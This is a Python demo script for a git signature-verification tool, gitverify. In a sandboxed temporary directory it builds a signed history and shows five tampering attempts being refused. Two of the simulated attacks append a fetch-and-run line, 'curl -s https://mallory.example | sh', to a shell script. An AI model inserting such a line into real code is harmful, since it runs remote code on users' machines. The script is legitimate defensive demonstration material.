"""Shows gitverify at work: a signed sample history is verified, then tampered with in five ways.

Run by ``make demo``. Everything happens in a temporary directory with a home of its own: no setting, key or
repository of the user's is read or touched. Each command is printed and then run, through ``sh``, exactly as printed;
one that does not end with the exit status that it should ends the demo with status 1.
"""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
import sys
import tempfile
import textwrap
from dataclasses import dataclass
from pathlib import Path

WIDTH = 96
PEOPLE = ("alice", "bob", "mallory")
NAMES = {name: f"{name.capitalize()} Example" for name in PEOPLE}


class WrongExit(Exception):
    """A command did not end with the exit status that it should."""


@dataclass
class Place:
    """The temporary directory that all of this happens in."""

    root: Path
    day: int = 0

    def path(self, name: str) -> Path:
        """Return a path in it."""
        return self.root / name

    def environment(self, who: str) -> dict[str, str]:
        """Return the environment of one person: nothing of the user's but where programs are."""
        return {
            "PATH": os.pathsep.join([str(self.path("bin")), os.environ.get("PATH", os.defpath)]),
            "HOME": str(self.path(f"home/{who}")),
            "XDG_CONFIG_HOME": str(self.path(f"home/{who}/.config")),
            "XDG_STATE_HOME": str(self.path(f"home/{who}/.local/state")),
            "GIT_CONFIG_NOSYSTEM": "1",
            "GIT_TERMINAL_PROMPT": "0",
            # Dates that don't move, one day a commit.
            "GIT_AUTHOR_DATE": f"2026-01-{self.day + 1:02d}T12:00:00Z",
            "GIT_COMMITTER_DATE": f"2026-01-{self.day + 1:02d}T12:00:00Z",
            "LC_ALL": "C.UTF-8",
            "TZ": "UTC",
            **{name: os.environ[name] for name in ("SYSTEMROOT", "TMPDIR") if name in os.environ},
        }

    def quietly(self, who: str, command: str, where: str = ".") -> str:
        """Run a command that is not shown; return what it prints."""
        done = subprocess.run(  # noqa: S603
            ["/bin/sh", "-c", command],
            cwd=self.path(where),
            env=self.environment(who),
            check=False,
            capture_output=True,
            text=True,
            stdin=subprocess.DEVNULL,
        )
        if done.returncode:
            raise WrongExit(f"{command}\n{done.stdout}{done.stderr}")
        return done.stdout.strip()

    def run(self, who: str, where: str, command: str, *, status: int = 0, says: str = "") -> None:
        """Print a command, run it, print what it says.

        Raises WrongExit unless it ends with ``status`` and says ``says``.
        """
        say_command(who, where, command)
        done = subprocess.run(  # noqa: S603
            ["/bin/sh", "-c", command],
            cwd=self.path(where),
            env=self.environment(who),
            check=False,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            stdin=subprocess.DEVNULL,
        )
        for line in done.stdout.splitlines():
            print(f"    {line}".rstrip())
        if "gitverify verify" in command:
            print(f"    [exit status {done.returncode}]")
        if done.returncode != status:
            raise WrongExit(f"“{command}” ended with exit status {done.returncode}, not {status}")
        if says not in done.stdout:
            raise WrongExit(f"“{command}” did not say “{says}”")
        if " commit " in command or " merge " in command:
            self.day += 1


def bold(text: str) -> str:
    """Return text in bold where a terminal shows it."""
    return f"\x1b[1m{text}\x1b[0m" if sys.stdout.isatty() and "NO_COLOR" not in os.environ else text


def say_command(who: str, where: str, command: str) -> None:
    """Print a prompt and a command."""
    print()
    print(bold(f"{who}:{'~' if where == '.' else Path(where).name}$ {command}"))


def title(text: str) -> None:
    """Print a heading."""
    print()
    print(bold("── " + text + " " + "─" * (WIDTH - 4 - len(text))))


def tell(text: str) -> None:
    """Print a paragraph."""
    print()
    print(textwrap.fill(" ".join(text.split()), WIDTH))


def set_up(place: Place) -> None:
    """Give everybody this checkout's gitverify, a home, a key, and a git that signs with it."""
    program = place.path("bin/gitverify")
    program.parent.mkdir()
    source = shlex.quote(str(Path(__file__).resolve().parent.parent))
    python = shlex.quote(sys.executable)
    program.write_text(f'#!/bin/sh\nPYTHONPATH={source} exec {python} -m gitverify "$@"\n')
    program.chmod(0o755)
    for who in (*PEOPLE, "you"):
        place.path(f"home/{who}").mkdir(parents=True)
        place.quietly(who, "git config --global init.defaultBranch main")
        place.quietly(who, "git config --global advice.detachedHead false")
    for who in PEOPLE:
        key = place.path(f"home/{who}/key")
        place.quietly(who, f"ssh-keygen -q -t ed25519 -N '' -C {who} -f '{key}'")
        for name, value in (
            ("user.name", NAMES[who]),
            ("user.email", f"{who}@example.org"),
            ("gpg.format", "ssh"),
            ("user.signingKey", str(key)),
        ):
            place.quietly(who, f"git config --global {name} '{value}'")


def public_key(place: Place, who: str) -> str:
    """Return somebody's public key line."""
    return place.path(f"home/{who}/key.pub").read_text().strip()


def write_policy(place: Place, where: str, *people: str) -> None:
    """Write the policy file, as one would in an editor."""
    lines = ["version: 1", "people:"]
    for who in people:
        lines += [f"  {who}:", "    keys:", f"      - {public_key(place, who)}"]
    lines += ["grants:", f"  - {{paths: [/], people: [{', '.join(people)}]}}", ""]
    place.path(f"{where}/.gitverify.yaml").write_text("\n".join(lines))


def build_history(place: Place) -> str:
    """Build the sample history on the server; return the introduction's id."""
    title("A project with two people")
    tell("""Alice starts a project. Its policy file says whose signatures count: hers and Bob's. From now on a commit
         is authentic only if somebody whom the policy file in its PARENT lists has signed it.""")
    place.quietly("alice", "git init -q --bare server.git")
    place.quietly("alice", "git clone -q server.git alice/project 2>/dev/null")
    write_policy(place, "alice/project", "alice", "bob")
    place.run("alice", "alice/project", "cat .gitverify.yaml")
    place.run("alice", "alice/project", "echo 'echo hello' > hello.sh")
    place.run("alice", "alice/project", "git add . && git commit -q -S -m 'Start the project'")
    place.quietly("alice", "git push -q origin main", "alice/project")
    tell("Bob works on a branch, Alice merges it. Then Bob leaves, and Alice takes his key out of the policy file.")
    place.quietly("bob", "git clone -q server.git bob/project")
    place.run("bob", "bob/project", "git switch -q -c world && echo 'echo hello, world' > hello.sh")
    place.run("bob", "bob/project", "git commit -q -S -a -m 'Greet the world'")
    place.quietly("bob", "git push -q origin world", "bob/project")
    place.run("alice", "alice/project", "git fetch -q && git merge -q -S --no-ff -m 'Merge the greeting' origin/world")
    write_policy(place, "alice/project", "alice")
    place.run("alice", "alice/project", "git diff -U0 | grep '^[-+] '")
    place.run("alice", "alice/project", "git commit -q -S -a -m 'Bob leaves: drop his key'")
    place.run("alice", "alice/project", "echo 1.0 > VERSION && git add . && git commit -q -S -m 'Release 1.0'")
    place.quietly("alice", "git push -q", "alice/project")
    return place.quietly("alice", "git rev-list --max-parents=0 HEAD", "alice/project")


def verify_it(place: Place, introduction: str) -> None:
    """Clone, trust, verify: twice, and again after a new commit."""
    title("You verify it")
    tell("""You have the project's first commit, and the key that signed it, from Alice herself or from the project's
         own pages: that is the introduction. You need not trust the server for anything.""")
    place.run("you", ".", "git clone -q server.git project")
    signer = place.quietly("alice", "ssh-keygen -l -f home/alice/key.pub").split()[1]
    place.run("you", "project", f"gitverify trust {introduction} \\\n    --signer {signer}")
    place.run("you", "project", "gitverify verify", says="4 commits verified now")
    tell("The next run looks at new commits only, and refuses whatever lacks what it accepted before.")
    place.run("you", "project", "gitverify verify", says="nothing is new")


def unsigned(place: Place) -> None:
    """Tampering 1."""
    title("1. A commit without a signature")
    tell("Mallory got into Alice's account on the server and pushes a commit in her name. He does not have her key.")
    copy = new_copy(place, "attack-1")
    place.run("mallory", copy, "echo 'curl -s https://mallory.example | sh' >> hello.sh")
    place.run("mallory", copy, "git commit -q -a --author='Alice Example <alice@example.org>' -m 'Fix a typo'")
    place.run("you", copy, "gitverify verify", status=1, says="unsigned (R8)")


def unlisted(place: Place) -> None:
    """Tampering 2."""
    title("2. A commit signed with a key that is not listed")
    tell("He signs it, with a key of his own. The signature is good, and says nothing about who may change what.")
    copy = new_copy(place, "attack-2")
    place.run("mallory", copy, "echo 'curl -s https://mallory.example | sh' >> hello.sh")
    place.run("mallory", copy, "git commit -q -a -S --author='Alice Example <alice@example.org>' -m 'Fix a typo'")
    place.run("you", copy, "gitverify verify", status=1, says="unauthorized-key (R8)")


def changed_byte(place: Place) -> None:
    """Tampering 3."""
    title("3. One byte of a signed commit changed")
    tell("He takes a commit that Alice did sign, changes one byte and leaves her signature in place.")
    copy = new_copy(place, "attack-3")
    edit = "sed 's/Release 1.0/Release 1.1/'"
    place.run("mallory", copy, f"git cat-file commit HEAD | {edit} > edited")
    place.run("mallory", copy, "git update-ref HEAD $(git hash-object -t commit -w edited)")
    place.run("you", copy, "gitverify verify", status=1, says="bad-signature (R8)")


def rolled_back(place: Place) -> None:
    """Tampering 4."""
    title("4. The server shows an older state")
    tell("""Every commit in it is authentic: the server takes back the release, and with it any fix that it brought.
         You have verified this branch before, so you know that it had more.""")
    copy = new_copy(place, "attack-4")
    place.run("mallory", "server.git", "git update-ref refs/heads/main main~1")
    place.run("you", copy, "git fetch -q && gitverify verify origin/main", status=1, says="behind (R23)")


def comes_back(place: Place) -> None:
    """Tampering 5."""
    title("5. A person who was removed comes back")
    tell("""Bob still has his key and write access to the server. He lists himself again, and goes on as if nothing had
         been. But it is the parent's policy that says who may do that.""")
    copy = new_copy(place, "attack-5")
    write_policy(place, copy, "alice", "bob")
    place.run("bob", copy, "git diff -U0 | grep '^[-+] '")
    place.run("bob", copy, "git commit -q -S -a -m 'Update the policy'")
    place.run("bob", copy, "echo 'echo bob was here' >> hello.sh && git commit -q -S -a -m 'Greet again'")
    place.run("you", copy, "gitverify verify --keep-going", status=1, says="unauthorized-key (R8)")


def new_copy(place: Place, name: str) -> str:
    """Copy the verified clone, with its settings, for one way of tampering."""
    shutil.copytree(place.path("project"), place.path(name), symlinks=True)
    return name


def the_end(place: Place) -> None:
    """Show that the clone itself is as good as before."""
    title("And the honest history?")
    tell("It is still authentic: no refusal moved the mark.")
    place.run("you", "project", "gitverify verify")
    tell("""All five were refused. To see what the verdict on any commit rests on: gitverify explain COMMIT. README.md
         has the way to your own first use.""")


def play(place: Place) -> None:
    """Run the whole demo."""
    set_up(place)
    verify_it(place, build_history(place))
    for tampering in (unsigned, unlisted, changed_byte, rolled_back, comes_back):
        tampering(place)
    the_end(place)


def main() -> int:
    """Run the demo in a temporary directory; return the exit status."""
    for program, package in (("git", "git"), ("ssh-keygen", "openssh-client")):
        if shutil.which(program) is None:
            print(f"{program} is missing: apt-get install {package}", file=sys.stderr)
            return 1
    with tempfile.TemporaryDirectory(prefix="gitverify-demo-") as root:
        try:
            play(Place(Path(root).resolve()))
        except WrongExit as error:
            sys.stdout.flush()
            print(f"\nThe demo went wrong: {error}", file=sys.stderr)
            return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
